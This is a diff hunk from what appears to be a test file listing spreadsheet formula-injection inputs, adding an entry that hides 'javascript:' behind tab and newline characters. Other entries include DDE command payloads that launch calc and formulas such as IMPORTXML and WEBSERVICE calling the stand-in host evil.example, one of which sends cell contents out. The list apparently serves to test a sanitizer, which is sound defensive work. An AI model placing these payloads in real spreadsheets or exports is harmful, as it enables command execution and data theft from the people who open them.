@@ -54,7 +54,7 @@ _FORMULAS = [
     "=HYPERLINK(\"https://evil.example\",\"open\")",
     "＝cmd|' /C calc'!A0",
     "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＠SUM(1)", "−1+1",
-    "\t=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
+    "one\nja\tva\rscript:two\t\tx", "\t=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
     "'=1+1", "\"=1+1\"", "\";=1+1;\"", "\",=1+1,\"", "%0A=1+1", ";=1+1\r\n=1+1",
     "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
     "=WEBSERVICE(\"https://evil.example\")",
